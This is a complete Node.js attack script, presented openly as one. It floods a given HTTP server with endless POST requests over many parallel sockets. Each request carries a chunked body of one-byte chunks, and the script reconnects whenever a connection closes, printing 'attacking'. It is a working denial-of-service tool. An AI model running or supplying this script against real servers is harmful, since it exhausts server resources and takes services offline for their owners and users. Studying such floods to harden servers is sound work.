// node one-byte-chunks.mjs URL CONNECTIONS [NAME VALUE]: sends bodies in chunks of one byte without end, as fast as they are read.
import { connect } from "node:net";

const [url = "", connections = "1", name, value] = process.argv.slice(2);
const { hostname, port, pathname } = new URL(url);
const head = [
  `POST ${pathname} HTTP/1.1`,
  "Host: x",
  ...(name === undefined ? [] : [`${name}: ${value}`]),
  "Transfer-Encoding: chunked",
  "",
  "",
].join("\r\n");
const BODY = `${head}${"1\r\nx\r\n".repeat(60_000)}0\r\n\r\n`;

const attack = () => {
  const socket = connect(Number(port), hostname);
  const send = () => {
    while (!socket.destroyed && socket.write(BODY));
  };
  socket.on("connect", send).on("drain", send).resume();
  socket.on("error", () => undefined).on("close", () => setTimeout(attack, 10));
};
for (let i = 0; i < Number(connections); i++) attack();
console.log("attacking");
